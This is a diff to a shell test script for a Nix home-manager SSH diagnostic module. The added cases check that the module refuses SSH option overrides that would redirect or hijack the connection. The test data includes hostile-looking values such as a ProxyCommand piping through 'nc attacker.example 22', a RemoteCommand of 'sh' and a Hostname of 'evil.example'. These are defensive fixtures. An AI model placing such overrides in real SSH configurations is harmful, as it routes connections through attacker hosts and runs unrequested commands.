@@ -928,6 +928,38 @@ PY
         done
     done
     say "$n home-manager configurations evaluated$(command -v ssh >/dev/null 2>&1 && echo ' and checked with ssh -G (User diag, IdentitiesOnly yes, the diag key first)')"
+
+    # Written before every block, so they beat the diag block: extraOptionOverrides that decide
+    # the connection are refused; includes (files nothing can read at evaluation) get a warning.
+    # EXTRA-MODULE|assertion or warning|EXPECTED-SUBSTRING
+    local case kind want
+    for case in \
+        '{ programs.ssh.extraOptionOverrides.User = "alice"; }|assertion|extraOptionOverrides sets User;' \
+        '{ programs.ssh.extraOptionOverrides = { IdentityFile = "~/.ssh/id_personal"; identitiesonly = "no"; }; }|assertion|sets IdentityFile, identitiesonly;' \
+        '{ programs.ssh.extraOptionOverrides.ProxyCommand = "nc attacker.example 22"; }|assertion|sets ProxyCommand;' \
+        '{ programs.ssh.extraOptionOverrides.ControlPath = "~/.ssh/cm-%h"; }|assertion|sets ControlPath;' \
+        '{ programs.ssh.extraOptionOverrides = { RemoteCommand = "sh"; LocalCommand = "id"; Hostname = "evil.example"; Port = "2222"; }; }|assertion|sets Hostname, LocalCommand, Port, RemoteCommand;' \
+        '{ programs.ssh.extraOptionOverrides = { ControlPath = "~/.ssh/cm-%C"; ControlMaster = "auto"; ServerAliveInterval = "30"; }; }|none|' \
+        '{ programs.ssh.includes = [ "~/.orbstack/ssh/config" ]; }|warning|programs.ssh.includes (~/.orbstack/ssh/config) is written before every'; do
+        kind=${case#*|}; want=${kind#*|}; kind=${kind%%|*}
+        nix_json "$SRC/nix/checks/eval-home-manager.nix" --argstr libPath "$LIB" --argstr hmPath "$hm" \
+            --arg extra "${case%%|*}" >"$TMP/hm.json" 2>"$TMP/err" \
+            || fail "evaluating the home-manager module with ${case%%|*}: $(cat "$TMP/err")"
+        python3 - "$TMP/hm.json" "$kind" "$want" "${case%%|*}" <<'PY' || exit 1
+import json, sys
+d = json.load(open(sys.argv[1]))
+kind, want, label = sys.argv[2:5]
+failed = d["failedAssertions"]
+warned = [w for w in d["warnings"] if "programs.diag-client" in w]
+if kind == "assertion" and not any(want in m for m in failed):
+    sys.exit(f"FAIL: {label}: expected an assertion containing {want!r}, got {failed}")
+if kind == "warning" and (failed or not any(want in w for w in warned)):
+    sys.exit(f"FAIL: {label}: expected only a warning containing {want!r}, got {failed} {warned}")
+if kind == "none" and (failed or warned):
+    sys.exit(f"FAIL: {label}: expected to pass, got {failed} {warned}")
+print(f"{label}: {kind} {'as expected' if kind != 'none' else 'passes'}")
+PY
+    done
 }
 
 case $CHECK in
